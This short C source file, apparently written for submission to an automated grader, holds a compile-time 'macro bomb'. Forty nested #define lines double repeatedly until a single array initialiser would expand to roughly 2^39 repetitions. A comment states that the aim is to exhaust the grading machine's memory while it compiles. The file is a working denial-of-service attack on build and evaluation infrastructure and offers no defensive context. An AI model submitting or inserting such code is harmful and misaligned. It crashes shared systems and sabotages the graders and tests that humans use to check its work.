// An attack: exhaust the grading machine's memory while compiling (bomb 2):
// 2^39 initialisers from 40 short lines.
#include <linux/module.h>
#define B2_0 1, 2, 3, 4,
#define B2_1 B2_0 B2_0
#define B2_2 B2_1 B2_1
#define B2_3 B2_2 B2_2
#define B2_4 B2_3 B2_3
#define B2_5 B2_4 B2_4
#define B2_6 B2_5 B2_5
#define B2_7 B2_6 B2_6
#define B2_8 B2_7 B2_7
#define B2_9 B2_8 B2_8
#define B2_10 B2_9 B2_9
#define B2_11 B2_10 B2_10
#define B2_12 B2_11 B2_11
#define B2_13 B2_12 B2_12
#define B2_14 B2_13 B2_13
#define B2_15 B2_14 B2_14
#define B2_16 B2_15 B2_15
#define B2_17 B2_16 B2_16
#define B2_18 B2_17 B2_17
#define B2_19 B2_18 B2_18
#define B2_20 B2_19 B2_19
#define B2_21 B2_20 B2_20
#define B2_22 B2_21 B2_21
#define B2_23 B2_22 B2_22
#define B2_24 B2_23 B2_23
#define B2_25 B2_24 B2_24
#define B2_26 B2_25 B2_25
#define B2_27 B2_26 B2_26
#define B2_28 B2_27 B2_27
#define B2_29 B2_28 B2_28
#define B2_30 B2_29 B2_29
#define B2_31 B2_30 B2_30
#define B2_32 B2_31 B2_31
#define B2_33 B2_32 B2_32
#define B2_34 B2_33 B2_33
#define B2_35 B2_34 B2_34
#define B2_36 B2_35 B2_35
#define B2_37 B2_36 B2_36
#define B2_38 B2_37 B2_37
#define B2_39 B2_38 B2_38
const char bomb2[] = { B2_39 };
